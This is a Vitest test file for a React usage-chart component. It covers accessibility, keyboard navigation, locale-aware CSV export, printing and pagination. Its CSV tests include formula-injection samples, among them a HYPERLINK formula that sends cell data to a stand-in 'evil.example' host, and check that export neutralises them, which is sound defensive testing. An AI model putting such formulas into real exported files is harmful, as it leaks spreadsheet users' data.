import { cleanup, fireEvent, render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import Papa from 'papaparse';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { UsageChart, type UsageChartProps } from '../../../src/components/UsageChart/index.js';
import {
  RolecallProvider,
  type RolecallProviderProps,
} from '../../../src/components/RolecallProvider/index.js';
import { RolecallError, type ErrorCode } from '../../../src/client/index.js';
import type { Backend, UsageArea } from '../../../src/hooks/index.js';
import { useUsage, useUsageSelection } from '../../../src/hooks/usage/index.js';
import { de } from '../../../src/locales/de/index.js';
import { usageWeek as week } from '../support/usageWeek.js';

const dayMs = 86_400_000;
const nowMs = Date.parse('2026-10-31T15:00:00Z');

const backend: Backend = { scope: 'test', viewer: { get: () => new Promise(() => undefined) } };

const withUsage: Omit<UsageArea, 'read'> = {
  intervals: ['day'],
  metrics: ['credits'],
  breakdowns: ['none'],
  maxBuckets: 1_000,
  maxDays: 400,
  obstacle: () => null,
};

function open(props: Partial<UsageChartProps> = {}, provider: Partial<RolecallProviderProps> = {}) {
  const view = (changed: Partial<UsageChartProps>) => (
    <RolecallProvider backend={backend} viewer="ana" {...provider}>
      <UsageChart
        {...({
          report: week,
          nowMs: Date.parse('2026-10-26T12:00:00Z'),
          ...props,
          ...changed,
        } as UsageChartProps)}
      />
    </RolecallProvider>
  );
  const { rerender } = render(view({}));
  return { user: userEvent.setup(), change: (changed: Partial<UsageChartProps>) => rerender(view(changed)) };
}

const chart = () => screen.getByRole('application', { name: 'Usage' });
const tip = () => document.querySelector('.rcl-usage-tip')?.textContent ?? null;

async function openTable(name: string): Promise<string[][]> {
  const summary = screen.getByText(name);
  const details = summary.closest('details')!;
  // jsdom opens no disclosure by itself.
  details.open = true;
  fireEvent(details, new Event('toggle'));
  const table = await within(details).findByRole('table');
  return within(table)
    .getAllByRole('row')
    .map((row) => [...row.children].map((cell) => cell.textContent));
}

const saved: { name: string; blob: Blob }[] = [];
beforeEach(() => {
  saved.length = 0;
  let last: Blob | null = null;
  vi.stubGlobal(
    'URL',
    Object.assign(URL, {
      createObjectURL: (blob: Blob) => {
        last = blob;
        return 'blob:usage';
      },
      revokeObjectURL: () => undefined,
    }),
  );
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
    if (last) saved.push({ name: this.download, blob: last });
  });
});

async function saveCsv(user: ReturnType<typeof userEvent.setup>): Promise<{ name: string; text: string }> {
  const before = saved.length;
  await user.click(screen.getByRole('button', { name: 'Download CSV' }));
  await waitFor(() => expect(saved).toHaveLength(before + 1));
  const { name, blob } = saved.at(-1)!;
  // As text it would lose its first mark.
  const bytes = await new Promise<ArrayBuffer>((resolve) => {
    const reader = new FileReader();
    reader.onload = () => resolve(reader.result as ArrayBuffer);
    reader.readAsArrayBuffer(blob);
  });
  return { name, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) };
}

describe('a chart of usage', () => {
  it('says in words what it shows: range, zone, total, highest bucket, largest series, what is missing or not over', () => {
    open();
    expect(chart()).toHaveAccessibleDescription(
      'Oct 22\u2009–\u200926, 2026 (Europe/Berlin). 3,580.5 credits in all. Most: Sun, Oct 25, 2026, with 2,533 credits. ' +
        'Largest: Aria with 98%. For one bucket there is no data. Mon, Oct 26, 2026 is still in progress. ' +
        'Left and right arrow keys go through time, up and down through the series, Escape leaves.',
    );
  });

  it('is a table too, with the same rows, in which a gap is no zero', async () => {
    open();
    expect(await openTable('Table')).toEqual([
      ['From', 'Aria', '=SUM(A1)', 'Bram, "the voice"', 'Total'],
      ['Thu, Oct 22, 2026', '1,000', '10', '1', '1,011'],
      ['Fri, Oct 23, 2026', '0', '20', '2', '22'],
      ['Sat, Oct 24, 2026', 'no data', 'no data', 'no data', 'no data'],
      ['Sun, Oct 25, 2026', '2,500', '30', '3', '2,533'],
      ['Mon, Oct 26, 2026 (in progress)', '10', '0.5', '4', '14.5'],
    ]);
    expect(screen.getByRole('table')).toHaveAccessibleName('Usage (credits). Times in Europe/Berlin.');
  });

  it.each([
    ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\tplain'],
    ...[' =1', '\u00a0=1', '\u200b=1', '\ufeff=1', '\u202e=1', '\u3000=1'],
    ...['＝1', '＋1', '－1', '＠A1', 'Aria\n=1', 'Aria\r\n =1', '=HYPERLINK("https://evil.example?"&A1,"x")'],
  ])('X04: saves %j as a text, and takes nothing away from it', async (name) => {
    const { user } = open({
      report: { ...week, series: [{ key: 'odd', name, values: [1, 2, null, 3, -4] }] },
    });
    const { text } = await saveCsv(user);
    const { data, errors } = Papa.parse<string[]>(text.slice(1).trimEnd());
    expect(errors).toEqual([]);
    expect(data[0]?.[2]).toBe(`'${name} (credits)`);
    // Numbers stay numbers, also below zero.
    expect(data.slice(1).map((row) => row[2])).toEqual(['1', '2', 'no data', '3', '-4']);
  });

  it.each(['Aria', 'a=b', 'Bram - late', 'x@y', '#1', "'quoted'", '10% off', 'Zoë, "the voice"'])(
    'X04: saves %j as it is',
    async (name) => {
      const { user } = open({
        report: { ...week, series: [{ key: 'one', name, values: [1, 2, null, 3, 4] }] },
      });
      const { text } = await saveCsv(user);
      expect(Papa.parse<string[]>(text.slice(1)).data[0]?.[2]).toBe(`${name} (credits)`);
    },
  );

  it.each([
    ['de', ';', '0,5'],
    ['fr', ';', '0,5'],
    ['pl', ';', '0,5'],
    ['pt-BR', ';', '0,5'],
    ['de-CH', ';', '0.5'],
    ['en-GB', ',', '0.5'],
    ['ja', ',', '0.5'],
  ])('saves a CSV that a spreadsheet set to %s opens in columns', async (locale, delimiter, half) => {
    const { user } = open({}, { locale });
    const { text } = await saveCsv(user);
    const { data, errors } = Papa.parse<string[]>(text.slice(1).trimEnd(), { delimiter });
    expect(errors).toEqual([]);
    expect(data.every((row) => row.length === data[0]?.length && row.length > 4)).toBe(true);
    expect(data[5]?.[3]).toBe(half);
    // Grouped digits would be read as text, or as another number.
    expect(data[4]?.[2]).toBe('2500');
  });

  it('saves the rows of the table as CSV: zone and unit in its head, no formula, every moment with its offset', async () => {
    const { user } = open();
    const { name, text } = await saveCsv(user);
    expect(name).toBe('usage-2026-10-22-2026-10-26.csv');
    expect(text.startsWith('\uFEFFFrom (Europe/Berlin),To (Europe/Berlin),Aria (credits),')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const { data, errors } = Papa.parse<string[]>(text.slice(1).trimEnd());
    expect(errors).toEqual([]);
    expect(data[0]?.slice(3)).toEqual([
      "'=SUM(A1) (credits)",
      'Bram, "the voice" (credits)',
      'Total (credits)',
      'Note',
    ]);
    // A day of 25 hours is a bucket like any other, and ends at another offset than it began.
    expect(data[4]).toEqual([
      '2026-10-25T00:00:00+02:00',
      '2026-10-26T00:00:00+01:00',
      '2500',
      '30',
      '3',
      '2533',
      '',
    ]);
    expect(data[5]?.at(-1)).toBe('in progress');

    const table = await openTable('Table');
    const written = (cell: string) => (cell === 'no data' ? cell : Number(cell).toLocaleString('en'));
    expect(data.slice(1).map((row) => row.slice(2, -1).map(written))).toEqual(
      table.slice(1).map((row) => row.slice(1)),
    );
  });

  it('hides a series at a press of its button, in the table and the file too', async () => {
    const { user } = open();
    const aria = screen.getByRole('button', { name: 'Aria' });
    expect(aria).toHaveAttribute('aria-pressed', 'true');
    await user.click(aria);
    expect(aria).toHaveAttribute('aria-pressed', 'false');
    expect(chart()).toHaveAccessibleDescription(/70\.5 credits in all.*One series is hidden\./);
    const table = await openTable('Table');
    expect(table[1]).toEqual(['Thu, Oct 22, 2026', '10', '1', '11']);
    expect((await saveCsv(user)).text).not.toContain('Aria');
  });

  it('goes through its points by the arrow keys, tells each, and lets Escape leave', async () => {
    const { user } = open();
    await user.tab();
    expect(chart()).toHaveFocus();
    await user.keyboard('{ArrowLeft}');
    expect(tip()).toContain('Mon, Oct 26, 2026');
    await user.keyboard('{ArrowLeft}{ArrowUp}');
    expect(tip()).toContain('Sun, Oct 25, 2026');
    await waitFor(() =>
      expect(screen.getByRole('status')).toHaveTextContent('Sun, Oct 25, 2026. Aria: 2,500 credits'),
    );
    await user.keyboard('{ArrowLeft}');
    expect(tip()).toContain('no data');
    await user.keyboard('{Home}');
    expect(tip()).toContain('Thu, Oct 22, 2026');
    await user.keyboard('{Escape}');
    expect(tip()).toBeNull();
    expect(chart()).toHaveFocus();
  });

  it('draws nothing again while a point is looked at', async () => {
    const { user } = open();
    const drawn = document.querySelector('.rcl-usage-svg')!;
    const changes: MutationRecord[] = [];
    const observer = new MutationObserver((records) => changes.push(...records));
    observer.observe(drawn, { subtree: true, childList: true, attributes: true });
    await user.tab();
    await user.keyboard('{ArrowLeft}{ArrowLeft}{ArrowUp}');
    expect(tip()).not.toBeNull();
    expect([...changes, ...observer.takeRecords()]).toEqual([]);
    observer.disconnect();
  });

  it('leads with what it comes to, for the eyes: the words of it are heard', () => {
    const before = {
      ...week,
      series: week.series.map((one) => ({ ...one, values: [600, 500, null, 0, 9_999] })),
    };
    open({ compareWith: before });
    const headline = document.querySelector('.rcl-usage-headline')!;
    expect(headline).toHaveTextContent(/Credits · Oct 22\s–\s26, 2026 · Europe\/Berlin3,580\.5/i);
    expect(headline).toHaveTextContent(/↑ .*% vs\. previous period/);
    expect(headline).toHaveAttribute('aria-hidden', 'true');
    expect(chart()).toHaveAccessibleDescription(/3,580\.5 credits in all\./);
  });

  it('prints every row of both tables, and nothing that is there to be pressed is in the way', async () => {
    open();
    await openTable('Table');
    fireEvent(window, new Event('beforeprint'));
    const printed = [...document.querySelectorAll('.rcl-usage-print table')];
    expect(printed.map((table) => table.querySelectorAll('tbody tr').length)).toEqual([3, 5]);
    fireEvent(window, new Event('afterprint'));
    expect(document.querySelector('.rcl-usage-print')).toBeNull();
  });

  it('compares with the period before over what is over, in words and in a column', async () => {
    const before = {
      ...week,
      startsMs: week.startsMs.map((ms) => ms - 5 * dayMs),
      endMs: week.endMs - 5 * dayMs,
      series: [
        { key: 'aria', name: 'Aria', values: [500, 500, 0, 0, 9_999] },
        { key: 'gone', name: 'Gone since', values: [100, 0, 0, 0, 0] },
      ],
    };
    const { user } = open({ compareWith: before });
    expect(chart()).toHaveAccessibleDescription(
      /224\.2% more than in the previous period \(1,100 credits\)\. What is still in progress is left out/,
    );
    expect((await openTable('Table'))[1]).toEqual(['Thu, Oct 22, 2026', '1,000', '10', '1', '1,011', '600']);
    expect((await saveCsv(user)).text).toContain('Previous period (credits)');
  });

  it('adds up no means and no percentiles: lines, no total, no rest, and all in the list', async () => {
    open({ report: { ...week, unit: { kind: 'milliseconds' }, combining: 'percentile' }, top: 2 });
    expect(chart()).toHaveAccessibleDescription(
      /Between 0 ms and 2,500 ms\. Highest: Aria, Sun, Oct 25, 2026, with 2,500 ms\..*One more series is in the list/,
    );
    expect((await openTable('Table'))[0]).toEqual(['From', 'Aria', '=SUM(A1)']);
    expect(await openTable('All 3 series')).toHaveLength(4);
  });

  it('writes money in its currency, and fractions of a cent as they are', async () => {
    open({ report: { ...week, unit: { kind: 'money', currency: 'USD' } } });
    expect(chart()).toHaveAccessibleDescription(/\$3,580\.50 in all/);
  });

  it('says of a running total what it comes to, and does not add its days up', () => {
    const total = {
      ...week,
      interval: 'cumulative',
      series: [{ key: 'all', name: 'All', values: [1, 2, 2, 5, 6] }],
    } as const;
    open({ report: total });
    expect(chart()).toHaveAccessibleDescription(
      /\(Europe\/Berlin\)\. 6 credits in all\. Mon, Oct 26, 2026 is still in progress/,
    );
  });

  it('calls what belongs to nothing so, in the legend and in the table', async () => {
    open({ report: { ...week, series: [{ key: '', name: null, values: [1, 2, 3, 4, 5] }] } });
    expect(screen.getByRole('button', { name: 'Not assigned' })).toBeInTheDocument();
    const [heads] = await openTable('Table');
    expect(heads).toContain('Not assigned');
  });

  it.each([
    ['text_to_speech', 'Text to speech', 'Text zu Sprache'],
    ['conversational_ai', 'Conversational AI', 'Gesprächs-KI'],
    // A word that nobody knew when these words were written, and one that every object knows.
    ['smell_to_speech', 'Smell to speech', 'Smell to speech'],
    ['constructor', 'Constructor', 'Constructor'],
  ])('calls what the provider calls %s by a word of the language', (key, english, german) => {
    const report = { ...week, series: [{ key, name: null, values: [1, 2, 3, 4, 5] }] };
    open({ report });
    expect(screen.getByRole('button', { name: english })).toBeInTheDocument();
    cleanup();
    open({ report }, { locale: 'de', messages: de });
    expect(screen.getByRole('button', { name: german })).toBeInTheDocument();
  });

  it('says of a column of many buckets that a part of it is not known', async () => {
    const startsMs = Array.from({ length: 2_400 }, (_, place) => week.endMs + place * 3_600_000);
    const { user } = open({
      report: {
        ...week,
        interval: 'hour',
        timeZone: 'UTC',
        startsMs,
        endMs: week.endMs + 100 * dayMs,
        series: [
          { key: 'a', name: 'Aria', values: startsMs.map((_, place) => (place === 2_399 ? null : 1)) },
        ],
      },
      nowMs: week.endMs + 200 * dayMs,
    });
    await user.tab();
    await user.keyboard('{End}');
    expect(tip()).toContain('Of a part of it nothing is known.');
    await user.keyboard('{Home}');
    expect(tip()).not.toContain('Of a part of it');
  });

  it('tells nothing used from nothing known', () => {
    const { change } = open({ report: { ...week, series: [] } });
    expect(screen.getByText('Nothing was used: Oct 22 – 26, 2026.')).toBeInTheDocument();
    change({
      report: { ...week, series: [{ key: 'all', name: null, values: [null, null, null, null, null] }] },
    });
    expect(screen.getByText('Nothing is known of the usage: Oct 22 – 26, 2026.')).toBeInTheDocument();
  });

  it('turns a long table page by page, and each row says which of all it is', async () => {
    const startsMs = Array.from({ length: 250 }, (_, place) => nowMs + place * dayMs);
    const { user } = open({
      report: {
        ...week,
        timeZone: 'UTC',
        startsMs,
        endMs: nowMs + 250 * dayMs,
        series: [{ key: 'a', name: 'Aria', values: startsMs.map(() => 1) }],
      },
    });
    expect(await openTable('Table')).toHaveLength(101);
    await user.click(screen.getByRole('button', { name: 'Later' }));
    await user.click(screen.getByRole('button', { name: 'Later' }));
    expect(screen.getByText('201 to 250 of 250')).toBeInTheDocument();
    expect(screen.getAllByRole('row').at(-1)).toHaveAttribute('aria-rowindex', '251');
    expect(screen.getByRole('button', { name: 'Later' })).toBeDisabled();
  });
});

describe('a chart of usage that is read', () => {
  const refused = (code: ErrorCode): Backend => ({
    scope: 'test',
    viewer: { get: () => Promise.reject(new RolecallError(code, 'refused')) },
    usage: { ...withUsage, read: () => new Promise(() => undefined) },
  });
  function Read() {
    return <UsageChart usage={useUsage(useUsageSelection().query)} />;
  }
  const openRead = (code: ErrorCode) =>
    render(
      <RolecallProvider backend={refused(code)} viewer="ana">
        <Read />
      </RolecallProvider>,
    );

  it('H-E15: says that it failed where it cannot be read what the viewer may see, and reads that again', async () => {
    openRead('upstream');
    expect(await screen.findByText(/The provider has a problem/)).toBeInTheDocument();
    expect(screen.getByRole('button', { name: 'Try again' })).toBeInTheDocument();
    expect(screen.queryByText('Reading the usage')).toBeNull();
  });

  it('H-E15: tells a page without an origin of its own from one without a connection', async () => {
    vi.stubGlobal('origin', 'null');
    openRead('network');
    expect(await screen.findByText(/in a closed frame/)).toBeInTheDocument();
  });
});
